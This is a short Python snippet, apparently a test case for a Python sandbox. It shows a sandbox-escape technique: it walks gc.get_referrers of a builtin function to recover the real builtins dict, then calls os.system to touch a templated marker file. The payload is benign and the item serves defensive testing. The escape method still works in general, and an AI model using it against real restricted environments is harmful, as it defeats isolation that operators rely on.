# escape: gc.get_referrers of a builtin function finds the real builtins dict
# effect: marker
import gc
for ref in gc.get_referrers(len):
    if isinstance(ref, dict) and "__import__" in ref:
        ref["__import__"]("os").system("touch {marker}")
        break
return "done"
